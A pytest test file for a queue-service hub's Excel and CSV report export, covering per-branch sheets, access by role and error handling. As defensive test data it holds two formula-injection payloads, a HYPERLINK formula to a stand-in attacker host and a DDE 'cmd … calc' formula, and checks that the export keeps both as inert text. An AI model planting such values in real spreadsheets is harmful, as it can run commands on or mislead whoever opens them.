"""The hub's report across branches as a workbook (``hub_report_xlsx``, the report page's
"Unduh XLSX") says what ``hub_report`` says, figure for figure: a sheet of all branches
together and one per branch, with valid, unique sheet names whatever the branches are
called, people's text kept as text, and each caller's own branches only (docs/HUB.md,
"Reports across branches").

A hub on PostgreSQL, its branches' days pushed as their pushers would (journal, set-up,
survey sums), read through the API and the web pages with the files opened by openpyxl.
"""

from __future__ import annotations

import csv
import html
import io
import re
import warnings
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from typing import TYPE_CHECKING, Any

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy.orm import Session

from counter_app.hub import store
from counter_app.hub.app import create_hub_app
from counter_app.hub.report_api import XLSX_TYPE
from tests.support.databases import fresh_pg_database
from tests.support.hub_journal import SERVICE_ID, Visit, day_events, profile

if TYPE_CHECKING:
    from starlette.testclient import TestClient

pytestmark = [pytest.mark.postgres]
PASSWORD = "hub-report-files-password-1"
MONDAY = date(2026, 3, 2)
API = "/hub/v1"
PERIOD = f"from={MONDAY}&to={MONDAY}"
# Two names alike in their first 31 characters, a name of forbidden sheet-name characters
# that also starts a formula, and a branch named like the sheet of all branches together.
LONG_1 = "Kecamatan Cibeber Kabupaten Cianjur Utara"
LONG_2 = "Kecamatan Cibeber Kabupaten Cianjur Selatan"
HOSTILE_BRANCH = '=HYPERLINK("http://evil.example/?x","klik")'
LIKE_ALL = "Semua kantor"
HOSTILE_SERVICE = "=1+2*cmd|' /C calc'!A0"
REGIONS = {LONG_1: "Cianjur", LONG_2: "Cianjur", HOSTILE_BRANCH: "Bandung", LIKE_ALL: "Bandung"}
# Minutes after 08:00: issued, called, finished (None: not yet).
DAYS = {
    LONG_1: [Visit(0, 5, 12), Visit(3, 12, 20), Visit(6, 50, 61), Visit(30)],
    LONG_2: [Visit(1, 2, 9), Visit(2, 40, 45)],
    HOSTILE_BRANCH: [Visit(0, 10, 15), Visit(4, 14, 30), Visit(5, 20), Visit(9, 45, 50)],
}
SURVEYS = {LONG_1: (2, [7] * 9), LONG_2: (1, [2] * 9), HOSTILE_BRANCH: (3, [10] * 9)}


@dataclass
class Hub:
    client: TestClient
    keys: dict[str, str]

    def as_user(self, username: str) -> dict[str, str]:
        r = self.client.post(f"{API}/login", json={"username": username, "password": PASSWORD})
        assert r.status_code == 200, r.text
        return {"Authorization": f"Bearer {r.json()['token']}"}


def _push(client: TestClient, key: str, name: str, visits: list[Visit]) -> None:
    auth = {"Authorization": f"Bearer {key}"}
    events = day_events(MONDAY, "Asia/Jakarta", visits)
    batch = [{"seq": e["seq"], "kind": e["kind"], "at": e["at"], "payload": e} for e in events]
    figures = {"seq": events[-1]["seq"], "waiting": 0, "open_counters": 1}
    r = client.post(f"{API}/journal", json={"events": batch, "figures": figures}, headers=auth)
    assert r.status_code == 200, r.text
    setup = profile(name)
    if name == HOSTILE_BRANCH:
        setup["services"][0]["name"] = HOSTILE_SERVICE
    responses, sums = SURVEYS[name]
    survey = {"service_day": MONDAY.isoformat(), "service_id": SERVICE_ID}
    feed = {"profile": setup, "surveys": [{**survey, "responses": responses, "sums": sums}]}
    r = client.post(f"{API}/feed", json=feed, headers=auth)
    assert r.status_code == 200, r.text


@pytest.fixture(scope="module")
def hub() -> Iterator[Hub]:
    with fresh_pg_database() as url:
        app = create_hub_app(url)
        with app.state.sessions.begin() as session:
            assert isinstance(session, Session)
            store.add_user(session, "pusat", PASSWORD, store.HUB_ADMIN, None)
            store.add_user(session, "pengawas", PASSWORD, store.REGIONAL_SUPERVISOR, "Cianjur")
            keys = {
                name: store.add_branch(session, name, region)[1] for name, region in REGIONS.items()
            }
        with warnings.catch_warnings():
            # Starlette asks for its fork ``httpx2``; plain httpx works the same here.
            warnings.filterwarnings("ignore", "Using `httpx` with `starlette.testclient`")
            from starlette.testclient import TestClient
        with TestClient(app) as client:
            for name, visits in DAYS.items():  # "Semua kantor" never sends its set-up
                _push(client, keys[name], name, visits)
            yield Hub(client, keys)


def _workbook(data: bytes) -> Workbook:
    assert data.startswith(b"PK"), data[:200]
    return load_workbook(io.BytesIO(data))


def _rows(sheet: Worksheet) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _table(rows: list[list[Any]], first_header: str, nth: int = 0) -> list[dict[str, Any]]:
    """The ``nth`` table whose header row starts with ``first_header``, rows as dicts."""
    starts = [i for i, row in enumerate(rows) if row[0] == first_header]
    start = starts[nth]
    headers = [h for h in rows[start] if h is not None]
    table = []
    for row in rows[start + 1 :]:
        if all(v is None for v in row):
            break
        table.append(dict(zip(headers, row, strict=False)))
    return table


def _minutes(seconds: float | None) -> float | None:
    return None if seconds is None else round(seconds / 60, 1)


def _same_figures(row: dict[str, Any], figures: dict[str, Any], survey: dict[str, Any]) -> None:
    """A summary row of the workbook against the JSON report's figures and IKM."""
    share = figures["within_target_share"]
    assert row["Diambil"] == figures["issued"]
    assert row["Pindahan masuk"] == figures["transferred_in"]
    assert row["Dilayani"] == figures["served"]
    assert row["Tidak hadir"] == figures["no_show"]
    assert row["Dipanggil"] == figures["called"]
    assert row["Dipanggil sesuai target"] == figures["within_target"]
    assert row["Sesuai target (%)"] == (None if share is None else round(share * 100, 1))
    assert row["Rata-rata tunggu (menit)"] == _minutes(figures["mean_wait_seconds"])
    assert row["Tunggu persentil 90 (menit)"] == _minutes(figures["p90_wait_seconds"])
    assert row["Rata-rata layanan (menit)"] == _minutes(figures["mean_service_seconds"])
    assert row["Responden SKM"] == survey["responses"]
    assert row["IKM"] == survey["index"]
    assert row["Mutu"] == survey["grade"]


def _as_csv(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, float) and value == int(value):
        return str(int(value))
    if isinstance(value, str) and value.startswith(("=", "+", "-", "@")):
        return "'" + value
    return str(value)


def _strings(book: Workbook) -> set[str]:
    return {
        str(v) for sheet in book.worksheets for row in _rows(sheet) for v in row if v is not None
    }


def _check_branch_sheets(book: Workbook, report: dict[str, Any]) -> None:
    """A sheet per branch, in the report's order: its own report's tables."""
    for sheet, branch in zip(book.worksheets[1:], report["branches"], strict=True):
        rows = _rows(sheet)
        assert rows[0][0] == branch["name"]
        assert rows[1][0] == f"Wilayah {branch['region']}"
        if branch["report"] is None:
            assert rows[2][0] == f"Periode {MONDAY}"
            assert "Belum ada data pengaturan" in str(rows[4][0])
            continue
        own = _table(rows, "Kelompok")
        _same_figures(own[0], branch["report"]["total"], branch["report"]["survey"])
        assert [h["Total"] for h in _table(rows, "Jam")] == branch["report"]["arrivals_by_hour"]
        elements = _table(rows, "Unsur")
        assert (
            next(r for r in elements if r["Nama"] == "IKM")["Semua layanan"]
            == (branch["report"]["survey"]["index"])
        )


def test_the_workbook_has_the_json_reports_figures(hub: Hub) -> None:
    admin = hub.as_user("pusat")
    report = hub.client.get(f"{API}/reports?{PERIOD}", headers=admin).json()
    answer = hub.client.get(f"{API}/reports.xlsx?{PERIOD}", headers=admin)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == XLSX_TYPE
    assert answer.headers["content-disposition"] == (
        f'attachment; filename="laporan-pusat-{MONDAY}_{MONDAY}.xlsx"'
    )
    book = _workbook(answer.content)

    # Sheet names: valid and different although the branches' names are not.
    names = book.sheetnames
    assert len(names) == 1 + len(REGIONS)
    assert all(len(n) <= 31 for n in names)
    assert len({n.lower() for n in names}) == len(names)
    assert not any(set(n) & set("[]:*?/\\") for n in names)
    assert names[0] == "Semua kantor"
    assert "Semua kantor (2)" in names

    # All branches together: the CSV's table, first the pooled row, then each branch's rows.
    together = _rows(book.worksheets[0])
    assert together[0][0] == "Laporan antar kantor"
    assert together[1][0] == f"Periode {MONDAY} · 3 kantor"
    assert str(together[2][0]).startswith("Dibuat ")
    summary = _table(together, "Kantor")
    combined = report["combined"]
    assert (summary[0]["Kantor"], summary[0]["Nama"]) == ("Total", "Semua layanan")
    _same_figures(summary[0], combined["total"], combined["survey"])
    assert combined["total"]["issued"] == sum(len(v) for v in DAYS.values())
    for branch in report["branches"]:
        rows = [r for r in summary if r["Kantor"] == branch["name"]]
        if branch["report"] is None:
            assert rows == []
            continue
        total = next(r for r in rows if r["Kelompok"] == "Total")
        _same_figures(total, branch["report"]["total"], branch["report"]["survey"])
        service = next(r for r in rows if r["Kelompok"] == "Layanan")
        _same_figures(
            service, branch["report"]["services"][0], branch["report"]["services"][0]["survey"]
        )
    # Arrivals by hour per branch, and the IKM per branch, under the summary.
    hours = _table(together, "Jam")
    assert sum(h["Total"] for h in hours) == sum(combined["arrivals_by_hour"])
    for branch in report["branches"]:
        if branch["report"] is not None:
            by_hour = [h[branch["name"]] for h in hours]
            assert by_hour == branch["report"]["arrivals_by_hour"]
    ikm = {r["Nama"]: r for r in _table(together, "Unsur")}
    assert ikm["IKM"]["Semua kantor"] == combined["survey"]["index"]
    assert ikm["Responden SKM"]["Semua kantor"] == 6
    for branch in report["branches"]:
        if branch["report"] is not None:
            assert ikm["IKM"][branch["name"]] == branch["report"]["survey"]["index"]

    _check_branch_sheets(book, report)

    # The same rows as the CSV (which writes numbers as text, and a ' before a formula).
    csv_text = hub.client.get(f"{API}/reports.csv?{PERIOD}", headers=admin).content
    header, *lines = csv.reader(io.StringIO(csv_text.decode("utf-8-sig")))
    assert header == list(summary[0])
    for line, row in zip(lines, summary, strict=True):
        assert line == [_as_csv(v) for v in row.values()]


def test_peoples_text_stays_text(hub: Hub) -> None:
    admin = hub.as_user("pusat")
    book = _workbook(hub.client.get(f"{API}/reports.xlsx?{PERIOD}", headers=admin).content)
    found = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value in (HOSTILE_BRANCH, HOSTILE_SERVICE)
    ]
    assert {c.value for c in found} == {HOSTILE_BRANCH, HOSTILE_SERVICE}
    for cell in found:  # text with the quote prefix: shown as typed, never run
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    hostile_sheet = next(s for s in book.worksheets if s.cell(1, 1).value == HOSTILE_BRANCH)
    assert not set(hostile_sheet.title) & set("[]:*?/\\")
    # openpyxl reads a formula cell as data type "f": there is none.
    assert not any(
        cell.data_type == "f" for s in book.worksheets for row in s.iter_rows() for cell in row
    )


def test_a_regional_supervisor_gets_their_region_only(hub: Hub) -> None:
    regional = hub.as_user("pengawas")
    answer = hub.client.get(f"{API}/reports.xlsx?{PERIOD}", headers=regional)
    assert answer.status_code == 200, answer.text
    book = _workbook(answer.content)
    assert len(book.sheetnames) == 3  # all (theirs) together, then their two branches
    strings = _strings(book)
    assert {LONG_1, LONG_2} <= strings
    assert not any(HOSTILE_BRANCH in s or HOSTILE_SERVICE in s for s in strings)
    assert "Bandung" not in " ".join(strings)
    together = _table(_rows(book.worksheets[0]), "Kantor")
    mine = hub.client.get(f"{API}/reports?{PERIOD}", headers=regional).json()
    _same_figures(together[0], mine["combined"]["total"], mine["combined"]["survey"])
    assert together[0]["Diambil"] == len(DAYS[LONG_1]) + len(DAYS[LONG_2])

    # Another region's branch is unknown to them; one of theirs gives its sheet alone.
    admin = hub.as_user("pusat")
    branches = hub.client.get(f"{API}/reports?{PERIOD}", headers=admin).json()["branches"]
    ids = {b["name"]: b["branch_id"] for b in branches}
    refused = hub.client.get(
        f"{API}/reports.xlsx?{PERIOD}&branch_id={ids[HOSTILE_BRANCH]}", headers=regional
    )
    assert (refused.status_code, refused.json()["error"]) == (404, "branch_not_found")
    one = hub.client.get(f"{API}/reports.xlsx?{PERIOD}&branch_id={ids[LONG_2]}", headers=regional)
    assert _workbook(one.content).sheetnames == ["Semua kantor", LONG_2[:31]]


def test_a_branchs_link_key_gets_no_workbook(hub: Hub) -> None:
    for key in (hub.keys[LONG_1], "not-a-key"):
        answer = hub.client.get(
            f"{API}/reports.xlsx?{PERIOD}", headers={"Authorization": f"Bearer {key}"}
        )
        assert (answer.status_code, answer.json()["error"]) == (401, "bad_token")
    answer = hub.client.get(f"{API}/reports.xlsx?{PERIOD}")
    assert (answer.status_code, answer.json()["error"]) == (401, "not_authenticated")


@pytest.mark.parametrize(
    ("query", "code"),
    [
        ("from=2026-03-02&to=2026-03-01", "bad_range"),
        ("from=2025-01-01&to=2026-03-02", "range_too_long"),
        ("from=2026-02-30&to=2026-03-02", "invalid_input"),
        ("from=2026-03-02", "invalid_input"),
        ("from=2026-03-02&to=2026-03-02&branch_id=0", "invalid_input"),
        ("from=2026-03-02&to=2026-03-02&lang=fr", "invalid_input"),
    ],
)
def test_a_bad_period_is_a_json_error(hub: Hub, query: str, code: str) -> None:
    answer = hub.client.get(f"{API}/reports.xlsx?{query}", headers=hub.as_user("pusat"))
    assert answer.status_code == 422
    assert answer.headers["content-type"] == "application/json"
    assert answer.json()["error"] == code


def test_the_openapi_document_says_what_comes_back(hub: Hub) -> None:
    spec = hub.client.get("/openapi.json").json()
    operation = spec["paths"][f"{API}/reports.xlsx"]["get"]
    assert operation["operationId"] == "hub_report_xlsx"
    responses = operation["responses"]
    assert list(responses["200"]["content"]) == [XLSX_TYPE]
    assert set(responses) == {"200", "401", "404", "422"}
    for status in ("401", "404", "422"):
        schema = responses[status]["content"]["application/json"]["schema"]
        assert schema == {"$ref": "#/components/schemas/ErrorBody"}
    assert "`bad_range`" in responses["422"]["description"]
    assert "HTTPValidationError" not in str(responses)
    for other in ("reports.csv", "reports"):
        declared = spec["paths"][f"{API}/{other}"]["get"]["responses"]
        assert set(declared) == {"200", "401", "404", "422"}, other
        assert "HTTPValidationError" not in str(declared)


def _web_login(client: TestClient) -> None:
    page = client.get("/pusat/masuk")
    token = re.search(r'name="csrf_token" value="([0-9a-f]+)"', page.text)
    assert token is not None
    form = {"username": "pengawas", "password": PASSWORD, "csrf_token": token.group(1)}
    done = client.post("/pusat/masuk", data=form, follow_redirects=False)
    assert done.status_code == 303, done.text


def test_the_report_page_links_the_workbook_and_prints(hub: Hub) -> None:
    client = hub.client
    period = f"dari={MONDAY}&sampai={MONDAY}"
    assert client.get(f"/pusat/laporan.xlsx?{period}", follow_redirects=False).status_code == 303
    _web_login(client)
    try:
        page = client.get(f"/pusat/laporan?{period}")
        assert page.status_code == 200
        link = re.search(r'<a href="([^"]+)">Unduh XLSX</a>', page.text)
        assert link is not None
        href = html.unescape(link.group(1))
        assert href == f"/pusat/laporan.xlsx?{period}"
        assert "Cetak / simpan PDF" in page.text
        assert '<style media="print">' in page.text and "size:A4 landscape" in page.text
        meta = re.search(r'<p class="meta" id="report-meta">(.*?)</p>', page.text, re.S)
        assert meta is not None
        assert f"<strong>{MONDAY}</strong> s.d. <strong>{MONDAY}</strong>" in meta.group(1)
        assert "wilayah Cianjur (2, 2 dengan data)" in meta.group(1)
        assert re.search(r"dibuat \d\d-\d\d-\d{4} \d\d\.\d\d WIB oleh pengawas", meta.group(1))

        answer = client.get(href)
        assert answer.status_code == 200 and answer.headers["content-type"] == XLSX_TYPE
        book = _workbook(answer.content)
        assert len(book.sheetnames) == 3 and HOSTILE_BRANCH not in _strings(book)
        # The CSV link, through the same route code.
        csv_link = re.search(r'<a href="([^"]+)">Unduh CSV</a>', page.text)
        assert csv_link is not None
        sheet = client.get(html.unescape(csv_link.group(1)))
        assert sheet.headers["content-type"] == "text/csv; charset=utf-8"
        assert LONG_1 in sheet.text and HOSTILE_BRANCH not in sheet.text
        bad = client.get(f"/pusat/laporan.xlsx?dari={MONDAY}&sampai=2020-01-01")
        assert (bad.status_code, bad.json()["error"]) == (422, "bad_range")
    finally:
        client.cookies.clear()
